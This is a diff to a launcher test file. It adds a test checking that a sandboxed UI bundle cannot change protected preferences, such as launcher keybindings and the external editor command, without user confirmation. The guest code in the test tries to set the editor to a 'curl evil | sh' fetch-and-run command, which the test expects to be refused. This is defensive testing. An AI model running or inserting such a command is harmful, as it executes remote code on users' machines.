@@ -1,4 +1,7 @@
 import { afterAll, beforeAll, describe, expect, test } from "bun:test";
+import { existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
 import { parseLaunchArgs } from "../../src/host/args.ts";
 import { runLauncher } from "../../src/host/launcher.ts";
 import { DEVICE_TOKEN_HEADER } from "../../src/protocol/server-info.ts";
@@ -11,7 +14,7 @@ beforeAll(async () => {
 });
 afterAll(() => server.stop());
 
-function launch(bundle: string, terminal: FakeTerminal, limits = {}) {
+function launch(bundle: string, terminal: FakeTerminal, limits = {}, home = "/home/secret") {
 	return runLauncher({
 		args: parseLaunchArgs(["a", "draft"]),
 		target: {
@@ -19,7 +22,7 @@ function launch(bundle: string, terminal: FakeTerminal, limits = {}) {
 			origin: () => server.server.origin,
 			credentials: () => ({ [DEVICE_TOKEN_HEADER]: server.server.deviceToken }),
 		},
-		env: { TERM: "xterm-256color", HOME: "/home/secret", AWS_SECRET_ACCESS_KEY: "nope" },
+		env: { TERM: "xterm-256color", HOME: home, AWS_SECRET_ACCESS_KEY: "nope" },
 		fetchBundle: async () => ({ source: bundle, hash: "test" }),
 		terminal: terminal as never,
 		mouse: "on",
@@ -131,5 +134,63 @@ describe("launcher", () => {
 		terminal.onInput?.("q");
 		expect((await result).code).toBe(0);
 		expect(terminal.output.match(/UI-2:reload/g)?.length).toBe(1);
+	}, 20000);
+
+	test("savePrefs: refused without a screen for launcher ids and other keys; asked on the launcher's own screen otherwise", async () => {
+		const home = mkdtempSync(join(tmpdir(), "p2-launcher-prefs-"));
+		const bundle = `globalThis.p2Guest = { start(host) {
+			const out = (data) => host.post({ kind: "output", data });
+			const ask = (id, patch) => host.post({ kind: "request", id, action: "savePrefs", payload: { patch } });
+			host.onMessage((m) => {
+				if (m.kind === "response") out("ANSWER:" + m.id + ":" + m.ok + ":" + (m.error ?? "") + ";");
+				if (m.kind === "preferences") out("PREFS:" + (m.preferences.theme ?? "none") + ";");
+				if (m.kind === "redraw") out("REDRAW;");
+				if (m.kind === "input" && m.data === "1") {
+					ask("a", { keybindings: { "app.clipboard.pasteImage": ["enter"] } });
+					ask("b", { externalEditor: "sh -c 'curl evil | sh'" });
+				}
+				if (m.kind === "input" && m.data === "3") {
+					ask("c", { theme: "dark" });
+					setTimeout(() => out("WHILE-ASKING"), 100);
+				}
+				if (m.kind === "input" && m.data === "2") ask("d", { theme: "dark" });
+				if (m.kind === "input" && m.data === "q") host.post({ kind: "exit", code: 0 });
+				if (m.kind === "input" && !["1", "2", "3", "q"].includes(m.data)) out("LEAKED:" + m.data + ";");
+			});
+			host.post({ kind: "ready" });
+		} };`;
+		const terminal = new FakeTerminal();
+		const result = launch(bundle, terminal, {}, home);
+		const prefs = join(home, ".pi", "p2-tui", "prefs.json");
+		try {
+			await Bun.sleep(300);
+			terminal.onInput?.("1");
+			await terminal.until("ANSWER:a:false:app.clipboard.pasteImage is the launcher's");
+			await terminal.until('ANSWER:b:false:"externalEditor" cannot be changed from the UI;');
+			expect(terminal.output).not.toContain("not the server's screen");
+			terminal.onInput?.("3");
+			await terminal.until("not the server's screen");
+			expect(terminal.output).toContain('+ theme: "dark"');
+			await Bun.sleep(200);
+			expect(terminal.output).not.toContain("WHILE-ASKING");
+			terminal.onInput?.("z");
+			terminal.onInput?.("n");
+			await terminal.until("ANSWER:c:false:declined;");
+			expect(terminal.output).toContain("REDRAW;");
+			expect(existsSync(prefs)).toBe(false);
+			terminal.onInput?.("2");
+			for (let i = 0; i < 100 && terminal.output.split("not the server's screen").length < 3; i++) await Bun.sleep(20);
+			terminal.onInput?.("y");
+			await terminal.until("ANSWER:d:true:;");
+			expect(JSON.parse(readFileSync(prefs, "utf8"))).toEqual({ theme: "dark" });
+			// The new preferences reach the UI before the answer does.
+			const tail = terminal.output.slice(terminal.output.lastIndexOf("REDRAW;"));
+			expect(tail.indexOf("PREFS:dark;")).toBeLessThan(tail.indexOf("ANSWER:d:true"));
+			expect(terminal.output).not.toContain("LEAKED");
+			terminal.onInput?.("q");
+			expect((await result).code).toBe(0);
+		} finally {
+			rmSync(home, { recursive: true, force: true });
+		}
 	}, 20000);
 });
